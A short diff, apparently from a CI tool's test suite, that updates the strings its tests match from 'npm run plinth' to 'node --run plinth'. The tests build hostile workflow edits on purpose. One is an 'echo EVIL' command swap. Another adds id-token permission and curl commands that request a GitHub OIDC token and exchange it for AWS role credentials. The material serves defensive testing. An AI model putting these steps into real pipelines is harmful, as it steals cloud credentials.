@@ -219,7 +219,7 @@ synthesizeUnits({ root: __dirname });
         file,
         checkout
           .read(file)
-          .replace('npm run plinth -- plan', 'echo EVIL && true'),
+          .replace('node --run plinth -- plan', 'echo EVIL && true'),
       );
       checkout.write(
         'plinth.json',
@@ -247,11 +247,11 @@ synthesizeUnits({ root: __dirname });
           .read(file)
           .replace('contents: read', 'contents: read\n  id-token: write')
           .replace(
-            '      - run: npm run plinth',
+            '      - run: node --run plinth',
             `      - run: |
           token=$(curl -sS -H "authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com" | sed 's/.*"value":"//;s/".*//')
           curl -sS "$AWS_ENDPOINT_URL" -d Action=AssumeRoleWithWebIdentity -d Version=2011-06-15 -d RoleSessionName=evil -d RoleArn=arn:aws:iam::111122223333:role/plinth-plan --data-urlencode "WebIdentityToken=$token"
-      - run: npm run plinth`,
+      - run: node --run plinth`,
           ),
       );
     });
